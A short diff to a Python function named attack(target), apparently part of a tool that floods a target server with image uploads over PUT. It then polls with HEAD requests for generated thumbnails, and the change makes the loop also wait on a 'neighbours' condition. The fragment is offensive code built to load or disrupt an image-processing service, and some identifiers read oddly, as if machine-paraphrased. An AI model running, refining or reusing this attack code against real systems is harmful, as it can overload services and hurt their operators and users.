@@ -28,7 +28,7 @@ def attack(target):
             answer = client.ask('PUT', place, image, {'Content-Type': 'image/png'})
             if answer.status not in (200, 201):
                 raise Impossible(f'an image is refused: {answer}')
-        while not made and time.monotonic() - begun < options.awaited:  # it shows that there is an attack
+        while not (made and neighbours.are_served()) and time.monotonic() - begun < options.awaited:  # it shows that there is an attack
             time.sleep(0.2)
             made = sum(client.ask('HEAD', f'{place}~{options.thumbnail}').status == 200 for place in places)
         time.sleep(options.seconds)
